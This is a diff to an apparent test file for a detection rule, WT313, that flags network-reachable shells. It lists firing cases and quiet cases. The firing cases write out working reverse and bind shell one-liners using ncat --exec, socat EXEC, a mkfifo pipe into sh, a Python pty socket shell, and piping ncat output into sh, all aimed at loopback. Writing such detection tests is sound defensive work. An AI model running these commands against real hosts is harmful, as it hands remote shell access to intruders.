@@ -1,6 +1,6 @@
 //! WT313: shells that others connect with the network.
 
-use super::Scene;
+use super::{Scene, fires, quiet};
 
 /// A listener on the loopback interface; `family(pid)` are a process and its descendants.
 macro_rules! relay {
@@ -26,28 +26,40 @@ NULL = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subproce
 }
 
 pub(super) const SCENES: &[Scene] = &[
-    Scene::new("WT313", "WT313 medium", "ncat --exec", relay!(r#"
+    fires(
+"WT313",
+"ncat --exec",
+&[("WT313", "medium")], relay!(r#"
 pid = start(['ncat', '--exec', '/bin/sh', '127.0.0.1', port], **NULL)
 accepted = listener.accept()
 ready(*family(pid))
 rest()
 "#))
     .needs(&["ncat"]),
-    Scene::new("WT313", "WT313 medium", "socat EXEC", relay!(r#"
+    fires(
+"WT313",
+"socat EXEC",
+&[("WT313", "medium")], relay!(r#"
 pid = start(['socat', f'TCP:127.0.0.1:{port}', 'EXEC:/bin/sh'], **NULL)
 accepted = listener.accept()
 ready(*family(pid))
 rest()
 "#))
     .needs(&["socat"]),
-    Scene::new("WT313", "WT313 medium", "socat EXEC with a terminal", relay!(r#"
+    fires(
+"WT313",
+"socat EXEC with a terminal",
+&[("WT313", "medium")], relay!(r#"
 pid = start(['socat', f'TCP:127.0.0.1:{port}', 'EXEC:bash -i,pty,stderr,setsid,ctty'], **NULL)
 accepted = listener.accept()
 ready(*family(pid))
 rest()
 "#))
     .needs(&["socat", "bash"]),
-    Scene::new("WT313", "WT313 medium", "a shell that is bound to a port", relay!(r#"
+    fires(
+"WT313",
+"a shell that is bound to a port",
+&[("WT313", "medium")], relay!(r#"
 listener.close()
 pid = start(['socat', f'TCP-LISTEN:{port},bind=127.0.0.1,fork', 'EXEC:/bin/sh,pipes'], **NULL)
 for _ in range(100):
@@ -57,14 +69,20 @@ ready(*family(pid))
 rest()
 "#))
     .needs(&["socat"]),
-    Scene::new("WT313", "WT313 medium", "a FIFO, cat and ncat", relay!(r#"
+    fires(
+"WT313",
+"a FIFO, cat and ncat",
+&[("WT313", "medium")], relay!(r#"
 pid = start(f'mkfifo @DIR@/f; cat @DIR@/f | sh -i 2>&1 | ncat 127.0.0.1 {port} > @DIR@/f; true', **NULL)
 accepted = listener.accept()
 ready(*family(pid))
 rest()
 "#))
     .needs(&["ncat"]),
-    Scene::new("WT313", "WT313 medium", "a program that spawns a terminal", relay!(r#"
+    fires(
+"WT313",
+"a program that spawns a terminal",
+&[("WT313", "medium")], relay!(r#"
 SPAWNS = f'''
 import os, pty, select, socket
 s = socket.create_connection(("127.0.0.1", {port}))
@@ -80,7 +98,9 @@ accepted = listener.accept()
 ready(*family(pid))
 rest()
 "#)),
-    Scene::new("WT313", "", "tmux", relay!(r#"
+    quiet(
+"WT313",
+"tmux", relay!(r#"
 subprocess.run(['tmux', '-S', '@DIR@/tmux', '-f', '/dev/null', 'new-session', '-d', 'sh'], check=True,
     **NULL)
 server = int(subprocess.run(['tmux', '-S', '@DIR@/tmux', 'display', '-p', '#{pid}'],
@@ -93,13 +113,17 @@ ready(*family(server))
 rest()
 "#))
     .needs(&["tmux"]),
-    Scene::new("WT313", "", "script", relay!(r#"
+    quiet(
+"WT313",
+"script", relay!(r#"
 pid = start(['script', '-q', '-c', 'sh', '/dev/null'], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
 ready(*family(pid))
 rest()
 "#))
     .needs(&["script"]),
-    Scene::new("WT313", "", "a service that runs a command through a shell", relay!(r#"
+    quiet(
+"WT313",
+"a service that runs a command through a shell", relay!(r#"
 RUNS = f'''
 import socket, subprocess, time
 s = socket.create_connection(("127.0.0.1", {port}))
@@ -111,14 +135,18 @@ accepted = listener.accept()
 ready(*family(pid))
 rest()
 "#)),
-    Scene::new("WT313", "", "a script that is downloaded and run", relay!(r#"
+    quiet(
+"WT313",
+"a script that is downloaded and run", relay!(r#"
 pid = start(f'ncat 127.0.0.1 {port} | sh > @DIR@/out; true', **NULL)
 accepted = listener.accept()
 ready(*family(pid))
 rest()
 "#))
     .needs(&["ncat"]),
-    Scene::new("WT313", "", "a login over ssh", relay!(r#"
+    quiet(
+"WT313",
+"a login over ssh", relay!(r#"
 os.mkdir('@DIR@/keys'); os.makedirs('/run/sshd', exist_ok=True)
 for name in ('host', 'user'):
     subprocess.run(['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', f'@DIR@/keys/{name}'], check=True)
